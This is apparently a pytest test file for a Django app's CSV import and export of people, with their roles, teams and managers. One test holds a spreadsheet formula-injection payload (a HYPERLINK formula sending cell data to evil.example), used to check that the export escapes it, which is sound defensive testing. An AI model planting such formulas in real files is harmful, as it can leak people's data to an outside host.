from __future__ import annotations

import csv
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import IntegrityError

from skillpath.content.reader import read_package
from skillpath.content.services import organization_ensure, package_import
from skillpath.people import import_writing
from skillpath.people.exporting import people_export
from skillpath.people.import_types import PeopleFileUnreadable, PeopleImportInvalid, PeopleImportResult
from skillpath.people.importing import (
    people_csv_text,
    people_import,
)
from skillpath.people.models import Organization, Person, Team
from skillpath.people.services import PersonSpec, person_upsert
from tests.helpers import DEMO, edit_yaml, mini_source

pytestmark = pytest.mark.django_db

TODAY = date(2026, 3, 2)
HEADER = "name,email,role,level,manager_email,team,start_date"
CLOSER = {
    "id": "closer",
    "title": "Closer",
    "levels": [{"id": "closer", "title": "Closer", "requires": {"closing": 1}}],
    "stages": {"foundation": ["basics"], "application": [], "mastery": ["closing-talk"], "reinforcement": []},
}


@pytest.fixture
def org(now: datetime) -> Organization:
    """Acme with the mini academy plus a second role, closer (one level)."""
    package_import("acme", edit_yaml(mini_source(), "package.yaml", lambda d: d["roles"].append(CLOSER)), now=now)
    return organization_ensure("acme")


def csv_of(*rows: str) -> str:
    return "\n".join([HEADER, *rows]) + "\n"


def run(org: Organization, *rows: str) -> PeopleImportResult:
    return people_import(org, csv_of(*rows), today=TODAY)


def existing(org: Organization, email: str, name: str, **kwargs: Any) -> Person:
    spec = PersonSpec(email, name, [("seller", None)], **kwargs)
    return person_upsert(org, spec, password="secret-words", today=date(2025, 1, 1))


def state() -> list[tuple[Any, ...]]:
    """Every person with what an import can change, to compare the database before and after."""
    people = Person.objects.select_related("user", "team", "manager__user").prefetch_related("roles__level")
    return sorted(
        (
            p.organization_id,
            p.user.username,
            p.name,
            p.team.name if p.team else None,
            p.manager.user.username if p.manager else None,
            p.started_on,
            p.is_manager,
            p.is_author,
            p.is_admin,
            sorted((r.role_id, r.level.slug if r.level else None, r.assigned_on) for r in p.roles.all()),
        )
        for p in people
    )


def person(email: str) -> Person:
    return Person.objects.select_related("team", "manager__user", "user").get(user__username=email)


def roles_of(email: str) -> list[tuple[str, str | None]]:
    return [
        (r.role.slug, r.level.slug if r.level else None) for r in person(email).roles.select_related("role", "level")
    ]


def test_import_creates_people_with_their_roles_teams_and_managers(org: Organization) -> None:
    result = run(
        org,
        "Cy Report,cy@acme.test,Seller,,bo@acme.test,Sales,2026-02-01",
        "Bo Boss,Bo@Acme.test,seller,Senior Seller,,Sales,2025-06-01",
        "Bo Boss,bo@acme.test,closer,,,Sales,",
    )
    assert result == PeopleImportResult(created=2, updated=0, unchanged=0)
    cy, bo = person("cy@acme.test"), person("bo@acme.test")
    assert (cy.name, cy.team.name if cy.team else None, cy.manager, cy.started_on) == (
        "Cy Report",
        "Sales",
        bo,
        date(2026, 2, 1),
    )
    assert roles_of("bo@acme.test") == [("seller", "senior-seller"), ("closer", "closer")]
    assert roles_of("cy@acme.test") == [("seller", "seller")]  # an empty level: the lowest
    assert not (bo.is_manager or bo.is_author or bo.is_admin)  # permissions are not in the file
    assert not cy.user.has_usable_password()  # they set one with "Forgot your password?"
    assert Team.objects.filter(organization=org).count() == 1


def test_new_people_start_with_the_organizations_reminder_defaults_and_others_keep_theirs(
    org: Organization,
) -> None:
    from datetime import time

    kept = existing(org, "bo@acme.test", "Bo")
    Organization.objects.filter(pk=org.pk).update(
        reminders_enabled=False, reminder_time=time(7, 45), quiet_start=time(20), quiet_end=time(8)
    )
    org.refresh_from_db()
    run(org, "Ana,ana@acme.test,seller,,,,", "Bo,bo@acme.test,seller,,,,")
    ana = person("ana@acme.test")
    assert (ana.reminders_enabled, ana.reminder_time, ana.quiet_start, ana.quiet_end) == (
        False,
        time(7, 45),
        time(20),
        time(8),
    )
    bo = person("bo@acme.test")
    assert (bo.reminders_enabled, bo.reminder_time, bo.quiet_start) == (kept.reminders_enabled, time(9), None)
    one = person_upsert(org, PersonSpec("cy@acme.test", "Cy", [("seller", None)]), password=None, today=TODAY)
    assert (one.reminders_enabled, one.reminder_time) == (False, time(7, 45))


def test_a_person_without_a_start_date_starts_today(org: Organization) -> None:
    run(org, "Ana,ana@acme.test,seller,,,,")
    assert person("ana@acme.test").started_on == TODAY


def test_one_bad_row_imports_nothing_and_every_error_is_reported(org: Organization) -> None:
    existing(org, "old@acme.test", "Old Timer")
    before = state()
    with pytest.raises(PeopleImportInvalid) as caught:
        run(
            org,
            "Ana,ana@acme.test,seller,,,Sales,",
            "Old Timer,old@acme.test,closer,,ana@acme.test,Ops,",
            "Bo,bo@,seller,,,Sales,",
            "Cy,cy@acme.test,manager,,ghost@acme.test,,",
        )
    assert [str(e) for e in caught.value.errors] == [
        'row 4, email: "bo@" is not an e-mail address; write it like name@example.com',
        'row 5, role: "manager" is not a role; use one of: seller, closer',
        'row 5, manager_email: "ghost@acme.test" is neither in this file nor one of the organization\'s people; '
        "add a row for them or correct the address",
    ]
    assert state() == before
    assert not Team.objects.exists()


def test_running_the_same_file_again_changes_nothing_and_writes_nothing(
    org: Organization, django_assert_num_queries: Any
) -> None:
    rows = ("Bo,bo@acme.test,seller,senior-seller,,Sales,2025-06-01", "Cy,cy@acme.test,seller,,bo@acme.test,Sales,")
    run(org, *rows)
    before = state()
    # Roles and their levels, people and their managers, accounts the file may not take, then the people in
    # the file with their roles: however many people, and not one write (not even a transaction).
    with django_assert_num_queries(6):
        assert run(org, *rows) == PeopleImportResult(created=0, updated=0, unchanged=2)
    assert state() == before


def test_roles_become_exactly_the_roles_in_the_file_and_an_empty_level_keeps_the_current_one(
    org: Organization,
) -> None:
    run(org, "Bo,bo@acme.test,seller,senior-seller,,,", "Bo,bo@acme.test,closer,,,,")
    assert run(org, "Bo,bo@acme.test,seller,,,,") == PeopleImportResult(created=0, updated=1, unchanged=0)
    assert roles_of("bo@acme.test") == [("seller", "senior-seller")]
    run(org, "Bo,bo@acme.test,closer,,,,")
    assert roles_of("bo@acme.test") == [("closer", "closer")]


def test_a_manager_may_be_in_the_file_or_already_in_the_organization(org: Organization) -> None:
    maya = existing(org, "maya@acme.test", "Maya")
    run(org, "Sam,sam@acme.test,seller,,lee@acme.test,,", "Lee,lee@acme.test,seller,,maya@acme.test,,")
    assert person("sam@acme.test").manager == person("lee@acme.test")
    assert person("lee@acme.test").manager == maya


def test_a_file_cannot_close_a_circle_through_someone_it_leaves_out(org: Organization) -> None:
    boss = existing(org, "boss@acme.test", "Boss")
    existing(org, "deputy@acme.test", "Deputy", manager_email="boss@acme.test")
    with pytest.raises(PeopleImportInvalid, match=r"managers form a circle: boss@acme\.test → deputy@acme\.test"):
        run(org, "Boss,boss@acme.test,seller,,deputy@acme.test,,")
    assert person("boss@acme.test").manager is None and boss.pk


def test_absent_columns_keep_what_people_have_and_empty_cells_clear_team_and_manager(org: Organization) -> None:
    run(org, "Mo,mo@acme.test,seller,,,,", "Ana,ana@acme.test,seller,,mo@acme.test,Sales,2026-01-05")
    people_import(org, "email,name,role\nana@acme.test,Ana Lima,seller\n", today=TODAY)
    ana = person("ana@acme.test")
    assert (ana.name, ana.team.name if ana.team else None, ana.manager, ana.started_on) == (
        "Ana Lima",
        "Sales",
        person("mo@acme.test"),
        date(2026, 1, 5),
    )
    run(org, "Ana Lima,ana@acme.test,seller,,,,")
    ana = person("ana@acme.test")
    assert (ana.team, ana.manager, ana.started_on) == (None, None, date(2026, 1, 5))


def test_people_not_in_the_file_and_permissions_are_left_alone(org: Organization) -> None:
    existing(org, "admin@acme.test", "Ada", is_admin=True, is_author=True, team="HR")
    existing(org, "other@acme.test", "Other")
    before = {row[1]: row for row in state()}
    assert run(org, "Ada Okafor,admin@acme.test,seller,,,HR,") == PeopleImportResult(0, 1, 0)
    after = {row[1]: row for row in state()}
    assert after["other@acme.test"] == before["other@acme.test"]
    ada = person("admin@acme.test")
    assert ada.is_admin and ada.is_author and ada.name == "Ada Okafor"
    assert ada.user.check_password("secret-words")  # an existing person keeps their password


def test_an_email_of_another_organizations_person_is_refused(org: Organization, now: datetime) -> None:
    package_import("globex", mini_source(), now=now)
    existing(organization_ensure("globex"), "gil@globex.test", "Gil")
    before = state()
    with pytest.raises(PeopleImportInvalid) as caught:
        run(org, "Ana,ana@acme.test,seller,,,,", "Gil,gil@globex.test,seller,,,,")
    assert [str(e) for e in caught.value.errors] == [
        'row 3, email: "gil@globex.test" belongs to another organization; use a different e-mail address'
    ]
    assert state() == before


def test_export_then_import_is_a_no_op(org: Organization) -> None:
    existing(org, "ada@acme.test", "Ada Ökafor", is_admin=True, team="People, HR")
    run(
        org,
        "Bo,bo@acme.test,seller,senior-seller,ada@acme.test,Sales,2025-06-01",
        "Bo,bo@acme.test,closer,,ada@acme.test,Sales,",
        "Cy,cy@acme.test,seller,,bo@acme.test,,",
    )
    person_upsert(org, PersonSpec("norole@acme.test", "No Role"), password=None, today=TODAY)
    export = people_export(org)
    assert (export.people, export.without_role) == (3, 1)
    assert export.text.splitlines()[:3] == [
        HEADER,
        'Ada Ökafor,ada@acme.test,seller,seller,,"People, HR",2025-01-01',
        "Bo,bo@acme.test,closer,closer,ada@acme.test,Sales,2025-06-01",
    ]
    before = state()
    assert people_import(org, export.text, today=TODAY) == PeopleImportResult(created=0, updated=0, unchanged=3)
    assert state() == before


def test_a_failure_while_applying_rolls_back_every_person_and_staged_account(
    org: Organization, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*args: Any, **kwargs: Any) -> None:
        raise IntegrityError("the database changed under us")

    monkeypatch.setattr(import_writing, "_roles", broken)
    with pytest.raises(IntegrityError):
        run(org, "Ana,ana@acme.test,seller,,,Sales,", "Bo,bo@acme.test,seller,,,Sales,")
    assert not Person.objects.exists() and not Team.objects.exists()
    assert not User.objects.exists()  # the accounts prepared for them were removed again


def test_file_text_is_utf8_with_or_without_a_byte_order_mark_and_at_most_2_mb() -> None:
    assert people_csv_text("name\nJosé\n".encode()) == "name\nJosé\n"
    assert people_csv_text(b"\xef\xbb\xbfname\n") == "name\n"
    with pytest.raises(PeopleFileUnreadable, match="not UTF-8 text; save it as “CSV UTF-8”"):
        people_csv_text("name\nJosé\n".encode("latin-1"))
    with pytest.raises(PeopleFileUnreadable, match="larger than 2 MB; split it"):
        people_csv_text(b"x" * (2 * 1024 * 1024 + 1))
    assert len(people_csv_text(b"x" * (3 * 1024 * 1024), max_bytes=None)) == 3 * 1024 * 1024


def test_the_documented_example_imports_into_the_demo_academy(now: datetime) -> None:
    doc = (Path(__file__).parents[2] / "docs" / "people-import.md").read_text()
    example = doc.split("```csv\n", 1)[1].split("```", 1)[0]
    package_import("northwind", read_package(DEMO), now=now)
    result = people_import(organization_ensure("northwind"), example, today=TODAY)
    assert result == PeopleImportResult(created=2, updated=0, unchanged=0)
    assert person("sam@northwind.example.com").manager == person("maya@northwind.example.com")


def test_a_file_cannot_take_over_the_platform_superuser_or_an_account_outside_any_organization(
    org: Organization, settings: Any
) -> None:
    User.objects.create_superuser("root@platform.test", "root@platform.test", "root-long-password")
    User.objects.create_user("loner@acme.test", "loner@acme.test", "loner-long-password")
    with pytest.raises(PeopleImportInvalid) as refused:
        run(org, "Root,root@platform.test,seller,,,,", "Loner,loner@acme.test,seller,,,,")
    assert [str(e) for e in refused.value.errors] == [
        'row 2, email: "root@platform.test" is a platform staff account; it cannot join an organization by import',
        'row 3, email: "loner@acme.test" is an existing account outside any organization; it can join only if the '
        "platform operator allows it, so use a different e-mail address",
    ]
    assert not Person.objects.exists()
    settings.IMPORT_MAY_CLAIM_ACCOUNTS = True  # the operator allows it
    assert run(org, "Loner,loner@acme.test,seller,,,,").created == 1
    assert person("loner@acme.test").user.check_password("loner-long-password")  # the account, as it was


def test_new_people_are_staged_invisibly_and_appear_together(org: Organization) -> None:
    seen: list[tuple[str, int, int]] = []

    def progress(phase: str, done: int, total: int) -> None:
        seen.append((phase, Person.objects.count(), User.objects.filter(is_active=True).count()))

    rows = [f"P{i},p{i}@acme.test,seller,,,Team {i % 3}," for i in range(1200)]
    people_import(org, csv_of(*rows), today=TODAY, progress=progress)
    staged = [s for s in seen if s[0] == "preparing"]
    assert len(staged) == 3  # 500 + 500 + 200 accounts, each batch its own short transaction
    assert all(people == 0 and active == 0 for _, people, active in staged)  # nothing visible yet
    assert Person.objects.count() == 1200 and User.objects.filter(is_active=True).count() == 1200
    assert Team.objects.count() == 3


def test_names_and_teams_that_look_like_formulas_are_escaped_in_the_export_and_import_back(
    org: Organization,
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    run(
        org,
        f'"{evil.replace(chr(34), chr(34) * 2)}",ev@acme.test,seller,,,@SUM(1+1),',
        "-Bo,bo@acme.test,seller,,,+Team,",
    )
    assert person("ev@acme.test").name == evil  # the import takes the text as it is
    export = people_export(org)
    cells = [cell for line in export.text.splitlines()[1:] for cell in next(csv.reader([line]))]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'@SUM(1+1)" in cells and "'-Bo" in cells
    before = state()
    assert people_import(org, export.text, today=TODAY) == PeopleImportResult(created=0, updated=0, unchanged=2)
    assert state() == before
